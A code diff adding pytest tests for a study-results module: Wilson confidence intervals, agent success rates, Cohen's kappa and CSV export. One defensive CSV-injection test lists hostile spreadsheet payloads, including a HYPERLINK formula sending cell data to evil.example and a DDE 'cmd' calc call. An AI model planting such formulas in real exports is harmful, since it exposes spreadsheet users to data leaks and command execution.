@@ -1,0 +1,114 @@
+"""Per-agent results: Wilson 95% intervals checked against values worked out by hand."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from pointlab.bridge.study.results import TRIAL_LOG_COLUMNS, agent_results, trial_log_csv, wilson_interval
+
+
+def test_wilson_by_hand():
+    # 5/10: centre 0.5; half = 1.96/(1 + 3.8415/10) * sqrt(0.025 + 3.8415/400) = 0.26341
+    lo, hi = wilson_interval(5, 10)
+    assert lo == pytest.approx(0.23659, abs=1e-4) and hi == pytest.approx(0.76341, abs=1e-4)
+    # 0/3: centre = half = (3.8415/6)/(1 + 3.8415/3) = 0.28075 -> [0, 0.56149]
+    lo, hi = wilson_interval(0, 3)
+    assert lo == 0.0 and hi == pytest.approx(0.56149, abs=1e-4)
+    lo, hi = wilson_interval(3, 3)  # mirror of 0/3
+    assert lo == pytest.approx(1 - 0.56149, abs=1e-4) and hi == 1.0
+    # 8/9, a size a 3-participant x 3-trial study has: p = .8889, z^2/n = .42683, denom 1.42683,
+    # centre (.8889 + .21342)/1.42683 = .77255, half 1.37364*sqrt(.010974 + .011856) = .20759
+    lo, hi = wilson_interval(8, 9)
+    assert lo == pytest.approx(0.56496, abs=2e-4) and hi == pytest.approx(0.98014, abs=2e-4)
+    assert wilson_interval(0, 0) is None
+    with pytest.raises(ValueError):
+        wilson_interval(4, 3)
+
+
+def test_agent_results_counts_only_judged_trials():
+    trials = [
+        {"agent": "a", "judgement": "succeeded", "sim_success": True},
+        {"agent": "a", "judgement": "failed", "sim_success": False},
+        {"agent": "a", "judgement": None, "sim_success": None},
+        {"agent": "b", "judgement": "succeeded", "sim_success": None},
+        {"agent": "zz", "judgement": "failed", "sim_success": None},
+    ]
+    surveys = [{"agent": "a", "score": 80.0}, {"agent": "a", "score": 55.0}, {"agent": "b", "score": 100.0}]
+    res = {r["agent"]: r for r in agent_results(["a", "b", "c"], trials, surveys)}
+    assert list(res) == ["a", "b", "c", "zz"]
+    a = res["a"]
+    assert (a["n_trials"], a["n_judged"], a["n_succeeded"], a["success_rate"]) == (3, 2, 1, 0.5)
+    assert a["sim_success_rate"] == 0.5 and a["mean_sus"] == 67.5 and a["n_surveys"] == 2
+    assert a["ci95"][0] == pytest.approx(0.0945, abs=1e-3) and a["ci95"][1] == pytest.approx(0.9055, abs=1e-3)
+    assert res["c"]["success_rate"] is None and res["c"]["ci95"] is None and res["c"]["mean_sus"] is None
+    assert res["b"]["sim_success_rate"] is None and res["b"]["mean_sus"] == 100.0
+
+
+def test_csv_has_header_and_json_cells():
+    rows = [{"id": 1, "agent": "a", "instruction": 'pick "the" cube, please', "points_px": [[1.0, 2.0]],
+             "target": {"valid": False, "reason": "no_depth: x"}, "judgement": None}]
+    parsed = list(csv.reader(io.StringIO(trial_log_csv(rows))))
+    assert tuple(parsed[0]) == TRIAL_LOG_COLUMNS
+    rec = dict(zip(parsed[0], parsed[1]))
+    assert rec["instruction"] == 'pick "the" cube, please' and rec["points_px"] == "[[1.0,2.0]]"
+    assert rec["judgement"] == "" and rec["id"] == "1"
+
+
+def test_csv_cells_are_text_never_formulas():
+    # CSV injection (OWASP "CSV Injection"): a participant types an instruction, the operator opens the
+    # CSV in a spreadsheet, and a cell starting with = + - @ (or tab / CR) would run as a formula.
+    # Such cells get a leading apostrophe; commas, quotes and newlines round-trip through the csv module.
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1"]
+    plain = 'pick up the "red", cube\nthen stop; <script>alert(1)</script>'
+    rows = [{"id": i + 1, "instruction": s, "raw_answer": s, "agent": "a", "frame_index": -1,
+             "points_px": [[-0.5, 2.0]]} for i, s in enumerate(hostile + [plain])]
+    back = list(csv.DictReader(io.StringIO(trial_log_csv(rows))))
+    assert [r["instruction"] for r in back] == ["'" + s for s in hostile] + [plain]
+    assert [r["raw_answer"] for r in back] == ["'" + s for s in hostile] + [plain]
+    # numbers and JSON cells are left alone (a negative number is data, not a formula)
+    assert back[0]["frame_index"] == "-1" and back[0]["points_px"] == "[[-0.5,2.0]]" and back[0]["id"] == "1"
+
+
+def test_trial_log_names_participants_and_counts_blocks_from_one():
+    from pointlab.bridge.study.results import trial_log
+
+    trials = [{"id": 1, "participant_id": 7, "block": 0, "agent": "a"}, {"id": 2, "participant_id": None, "block": None}]
+    log = trial_log(trials, [{"id": 7, "label": "P1"}])
+    assert [(r["participant"], r["block"]) for r in log] == [("P1", 1), (None, None)]
+    header, row = list(csv.reader(io.StringIO(trial_log_csv(trials[:1], [{"id": 7, "label": "P1"}]))))[:2]
+    assert row[header.index("participant")] == "P1" and row[header.index("block")] == "1"
+
+
+def test_cohens_kappa_by_hand():
+    from pointlab.bridge.study.results import cohens_kappa
+
+    # 10 trials, participant yes 6, check yes 5, agree on 4 yes + 3 no = 7: p_o = 0.7,
+    # p_e = 0.6 * 0.5 + 0.4 * 0.5 = 0.5, kappa = (0.7 - 0.5) / 0.5 = 0.4
+    pairs = [(True, True)] * 4 + [(True, False)] * 2 + [(False, True)] + [(False, False)] * 3
+    assert cohens_kappa(pairs) == pytest.approx(0.4)
+    assert cohens_kappa([(True, False), (False, True)]) == pytest.approx(-1.0)  # p_o 0, p_e 0.5
+    # p_o = p_e = 1: 0/0, undefined (one trial, or one answer throughout)
+    assert cohens_kappa([(True, True)] * 3) is None and cohens_kappa([(False, False)]) is None
+    assert cohens_kappa([]) is None
+
+
+def test_aborted_trials_are_left_out_of_every_rate_and_counted():
+    def t(j, outcome, auto=None, stage=None):
+        return {"agent": "a", "judgement": j, "outcome": outcome, "sim_success": None, "failure_stage": stage,
+                "auto_check": None if auto is None else {"success": auto, "method": "depth"}}
+
+    trials = [t("succeeded", "succeeded", True), t("failed", "failed", False, "grasp"), t(None, "aborted", None, "aborted"),
+              t(None, "aborted", None, "aborted"), t("succeeded", "succeeded", False)]
+    (a,) = agent_results(["a"], trials, [])
+    assert (a["n_trials"], a["n_aborted"], a["n_judged"], a["n_succeeded"]) == (5, 2, 3, 2)
+    assert a["success_rate"] == pytest.approx(2 / 3)
+    # Wilson 2/3 does not change because two trials were aborted
+    assert a["ci95"] == pytest.approx(list(wilson_interval(2, 3)))
+    assert a["auto_success_rate"] == pytest.approx(1 / 3) and a["n_compared"] == 3
+    assert a["agreement"] == pytest.approx(2 / 3) and a["failure_stages"] == {"grasp": 1, "aborted": 2}
+    # kappa: pairs (T,T), (F,F), (T,F): p_o 2/3, p_e = 2/3 * 1/3 + 1/3 * 2/3 = 4/9 -> (2/9) / (5/9) = 0.4
+    assert a["kappa"] == pytest.approx(0.4)
